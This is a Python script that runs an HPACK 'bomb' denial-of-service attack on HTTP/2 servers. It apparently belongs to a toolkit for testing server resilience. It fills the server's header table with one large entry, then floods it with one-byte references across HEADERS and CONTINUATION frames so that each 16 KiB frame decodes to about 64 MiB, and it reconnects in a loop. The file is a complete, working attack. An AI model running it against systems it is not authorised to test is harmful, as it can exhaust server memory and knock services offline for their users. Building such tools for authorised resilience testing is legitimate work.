#!/usr/bin/env python3
"""HPACK bomb: insert one header of nearly the whole dynamic table (4 KiB by default)
into the server's decoder, then reference it with one byte again and again: every
16 KiB frame decodes to 64 MiB of header list. Streams in a loop, each with a header
block of one HEADERS and --conts CONTINUATION frames of references, reconnecting when
the server closes; bounded by --count frames and --seconds. A resilient server bounds
the decoded header list (431, RST or GOAWAY) without decoding all of it."""
import time

import h2attack as a


def attack(args):
    agg = a.Agg()
    deadline = a.until_deadline(args)
    frames = 0
    streams = 0
    note = ""
    base = a.request_block(a.authority(args), "/", scheme=a.scheme(args))
    while frames < args.count and time.monotonic() < deadline:
        c = a.Conn(args)
        st = a.wait_settings(c)
        c.send(b"")  # the SETTINGS ACK, before any header block
        c.auto_ack = False  # nothing may come between HEADERS and its CONTINUATIONs
        table = st.get("HEADER_TABLE_SIZE", 4096)
        if table < 64:
            note = "server's HEADER_TABLE_SIZE is %d: no dynamic table to bomb" % table
            agg.add(c)
            c.close()
            break
        vlen = min(table, 4096) - 32 - 3
        insert = b"\x40" + a.hpack_str("x-b") + a.hpack_str("b" * vlen)  # incremental indexing, index 62
        sid = 1
        first = True
        while not c.closed and frames < args.count and time.monotonic() < deadline:
            head = base + (insert if first else b"")
            first = False
            refs = max(0, 16384 - len(head))
            out = a.frame(a.HEADERS, a.END_STREAM | (0 if args.conts else a.END_HEADERS), sid, head + b"\xbe" * refs)
            for i in range(args.conts):
                out += a.frame(a.CONTINUATION, a.END_HEADERS if i == args.conts - 1 else 0, sid, b"\xbe" * 16384)
            if not c.send(out, timeout=max(0.1, deadline - time.monotonic())):
                break
            frames += 1 + args.conts
            streams += 1
            sid += 2
            c.pump(0.01)
        c.pump(0.3)
        agg.add(c)
        c.close()
    decoded = frames * 16384 * 4096
    return {"sent": "%d streams, %d frames of 1-byte references to a ~4 KiB entry (%.0f GiB if decoded)%s"
            % (streams, frames, decoded / 2 ** 30, "; " + note if note else ""),
            "frames": frames, "streams": streams, "reaction": agg.reaction()}


def extra(p):
    p.add_argument("--conts", type=int, default=3, help="CONTINUATION frames per header block")


if __name__ == "__main__":
    a.run("hpack_bomb", __doc__, attack, count_default=20000, extra_args=extra)
